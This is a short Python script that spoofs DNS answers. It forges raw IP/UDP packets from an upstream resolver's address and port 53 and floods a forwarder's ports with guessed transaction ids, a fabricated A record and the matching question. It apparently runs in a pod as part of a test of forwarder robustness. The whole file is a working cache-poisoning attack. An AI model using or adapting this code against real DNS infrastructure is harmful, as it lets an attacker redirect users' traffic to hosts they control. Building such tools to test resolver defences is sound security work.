"""Sends answers that the upstream never gave: from its address, port 53, to the forwarder's ports, with the right question.

A process of its own in a pod: a raw socket and as many packets as two cores let through. Every second one goes to a port that is known to
be in use; the ids are random, since nobody but the forwarder knows them.
"""

import itertools
import os
import random
import socket
import struct
import sys

UDP_HEADER, IP_HEADER, ID = 8, 20, 2


def main(upstream: str, node: str, question: str, ports: str, count: str) -> None:
    record = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04" + socket.inet_aton("192.0.2.66")
    answer = b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + bytes.fromhex(question) + record
    size = IP_HEADER + UDP_HEADER + ID + len(answer)
    front = struct.pack(">BBHHHBBH", 0x45, 0, size, 0, 0, 64, socket.IPPROTO_UDP, 0) + socket.inet_aton(upstream) + socket.inet_aton(node)
    used = itertools.cycle(map(int, ports.split(",")))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(int(count)):
            port = next(used) if number % 2 else random.randrange(32768, 61000)
            raw.sendto(front + struct.pack(">HHHH", 53, port, size - IP_HEADER, 0) + os.urandom(ID) + answer, (node, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
